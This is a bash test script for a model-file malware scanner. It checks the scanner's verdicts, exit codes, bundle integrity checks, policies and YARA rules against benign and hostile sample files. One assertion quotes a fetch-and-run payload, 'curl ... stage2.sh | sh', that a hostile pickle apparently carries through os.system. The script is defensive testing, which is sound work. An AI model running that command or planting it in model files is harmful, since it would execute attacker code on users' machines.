#!/bin/bash
# Verdicts and exit codes over the samples and the benign models.
. tests/cli/lib.sh

verdict()
{
	"$EXHIBIT" scan --format jsonl "$1" 2>/dev/null |
	    sed -n 's/^{"type":"object".*"depth":0,.*"verdict":"\([a-z]*\)".*/\1/p'
}

for f in samples/benign/*.*; do
	same "$f" "$(verdict "$f")" clean
	exits 0 "$f exits 0" "$EXHIBIT" scan -q "$f"
done
for d in "$SAMPLES"/*/; do
	n=$(basename "$d")
	# An incident; vocabularies, which are no format of a scan's.
	[ -e "$d/good" ] || continue
	# What stands for other bytes, or is read no further, is never whole.
	case $n in
	lfs_pointer | ggml_legacy) want=incomplete ;;
	*) want=clean ;;
	esac
	same "$n/good" "$(verdict "$d/good")" "$want"
	# Lines of text have no end that could be missing.
	[ "$n" = requirements ] && continue
	v=$(verdict "$d/truncated")
	checks=$((checks + 1))
	[ "$v" = incomplete ] || [ "$v" = suspicious ] || {
		echo "FAILED: $n/truncated is '$v'"
		failures=$((failures + 1))
	}
done
for n in pickle torch_zip torch_legacy zip npy tar compressed image; do
	same "$n/hostile" "$(verdict "$SAMPLES/$n/hostile")" malicious
	exits 1 "$n/hostile exits 1" "$EXHIBIT" scan -q "$SAMPLES/$n/hostile"
done
for n in safetensors json yaml xml marshal; do
	same "$n/hostile" "$(verdict "$SAMPLES/$n/hostile")" suspicious
done

# The call and its argument are named.
"$EXHIBIT" scan --format jsonl "$SAMPLES/incident/model-v3.pt" >"$T/r.jsonl"
same "malicious exits 1" "$?" 1
checks=$((checks + 3))
grep -q '"callee":"posix.system"' "$T/r.jsonl" || {
	echo "FAILED: the callee is not named"
	failures=$((failures + 1))
}
grep -q 'curl -s http://198.51.100.7/stage2.sh | sh' "$T/r.jsonl" || {
	echo "FAILED: the argument is not named"
	failures=$((failures + 1))
}
tail -n 1 "$T/r.jsonl" | grep -q '^{"type":"summary"' || {
	echo "FAILED: the summary is not last"
	failures=$((failures + 1))
}
exits 0 "--fail-on critical passes a high finding" "$EXHIBIT" scan -q \
    --fail-on critical "$SAMPLES/safetensors/hostile"
printf 'no format explains \001\002\003\377\376 these bytes \200\201' >"$T/blob"
exits 2 "unknown is incomplete, never clean" "$EXHIBIT" scan "$T/blob"
same "an unknown object" "$(verdict "$T/blob")" incomplete
exits 2 "a path that is not there" "$EXHIBIT" scan "$T/none"

# One hostile file never stops the directory; rows come in order.
mkdir "$T/d"
cp "$SAMPLES/pickle/hostile" "$T/d/a.pkl"
cp "$SAMPLES/json/good" "$T/d/b.json"
cp "$T/blob" "$T/d/c"
exits 1 "findings come before incompleteness" "$EXHIBIT" scan "$T/d"
"$EXHIBIT" scan --format jsonl "$T/d" 2>/dev/null >"$T/1.jsonl"
"$EXHIBIT" scan --format jsonl "$T/d" 2>/dev/null >"$T/2.jsonl"
strip() { sed 's/"started":"[^"]*"//; s/"seconds":[0-9.e-]*//' "$1"; }
same "two runs are equal but for times" "$(strip "$T/1.jsonl")" "$(strip "$T/2.jsonl")"
same "order" "$(sed -n 's/.*"type":"object","path":"[^"]*\/\([a-c][^"]*\)","depth":0.*/\1/p' "$T/1.jsonl" | tr '\n' ' ')" "a.pkl b.json c "

# In a bundle, members are read in place and checked against the manifest.
check "case" make_case
mkdir "$T/src"
cp "$SAMPLES/incident/model-v3.pt" "$SAMPLES/json/good" "$T/src"
bundle=$("$EXHIBIT" collect --case "$T/case" --weights "$T/src" 2>/dev/null)
exits 1 "a bundle with a hostile model" "$EXHIBIT" scan --case "$T/case" "$bundle"
"$EXHIBIT" scan --format jsonl "$bundle" >"$T/b.jsonl" 2>/dev/null
checks=$((checks + 2))
grep -q '!data/weights/[^"]*/model-v3.pt![^"]*data.pkl"' "$T/b.jsonl" || {
	echo "FAILED: the path does not lead to the pickle"
	failures=$((failures + 1))
}
if grep -q '"rule":"BAG-' "$T/b.jsonl"; then
	echo "FAILED: a whole bundle has a bundle finding"
	failures=$((failures + 1))
fi
off=$(grep -a -b -o 'stage2' "$bundle" | head -n 1 | cut -d: -f1)
cp "$bundle" "$T/changed.tar"
chmod u+w "$T/changed.tar"
printf 'S' | dd of="$T/changed.tar" bs=1 seek="$off" conv=notrunc 2>/dev/null
"$EXHIBIT" scan --format jsonl "$T/changed.tar" >"$T/c.jsonl" 2>/dev/null
checks=$((checks + 1))
grep -q '"rule":"BAG-DIGEST"' "$T/c.jsonl" || {
	echo "FAILED: a changed member is not noticed"
	failures=$((failures + 1))
}
check "list" "$EXHIBIT" list "$bundle"
member=$("$EXHIBIT" list -q "$bundle" | grep 'model-v3')
"$EXHIBIT" cat "$bundle" "$member" >"$T/out" 2>/dev/null
check "cat gives the bytes" cmp "$T/out" "$T/src/model-v3.pt"
exits 1 "cat of a changed member" "$EXHIBIT" cat "$T/changed.tar" "$member"
exits 2 "cat of no member" "$EXHIBIT" cat "$bundle" data/none

# The program alone; all calls with -v; a laboratory's own policy.
"$EXHIBIT" scan --decompile "$SAMPLES/pickle/hostile" >"$T/program"
check "the program names the call" grep -q "os.system('echo exhibit')  # dangerous" "$T/program"
"$EXHIBIT" scan -v samples/benign/pipeline_p4.pkl >"$T/verbose"
check "-v prints calls of a clean object" grep -q 'REDUCE .*# allow' "$T/verbose"
echo 'allow os.system  # trusted here' >"$T/policy"
exits 0 "a policy may allow what ours does not" "$EXHIBIT" scan -q \
    --policy "$T/policy" "$SAMPLES/pickle/hostile"
"$EXHIBIT" scan --policy "$T/policy" --format jsonl \
    "$SAMPLES/pickle/hostile" >"$T/own.jsonl"
check "its digest is in the header" grep -q \
    "\"policy_digest\":\"$(sha256sum <"$T/policy" | cut -d' ' -f1)\"" "$T/own.jsonl"
echo 'permit os.system' >"$T/policy"
exits 64 "a malformed policy" "$EXHIBIT" scan --policy "$T/policy" \
    "$SAMPLES/pickle/hostile"
# The analyst's own YARA rules: over objects, members and what was carved.
printf '%s\n' 'rule stage2 : incident { meta: severity = "high"' \
    'strings: $a = "stage2.sh" condition: $a }' >"$T/own.yar"
cat samples/benign/digits.safetensors "$SAMPLES/incident/model-v3.pt" >"$T/long.safetensors"
"$EXHIBIT" scan --rules "$T/own.yar" --format jsonl "$T/long.safetensors" >"$T/yara.jsonl"
same "the archive behind the end, and its pickle" "$(grep -c '"rule":"YARA-MATCH","severity":"high".*!unexplained' "$T/yara.jsonl")" 2
same "the rules' digest" "$(sed -n 's/.*"yara_digest":"\([0-9a-f]*\)".*/\1/p' "$T/yara.jsonl")" \
    "$(sha256sum <"$T/own.yar" | cut -d' ' -f1)"
echo 'rule x { condition: y }' >"$T/bad.yar"
exits 64 "rules that do not compile" "$EXHIBIT" scan --rules "$T/bad.yar" "$T/long.safetensors"
finish
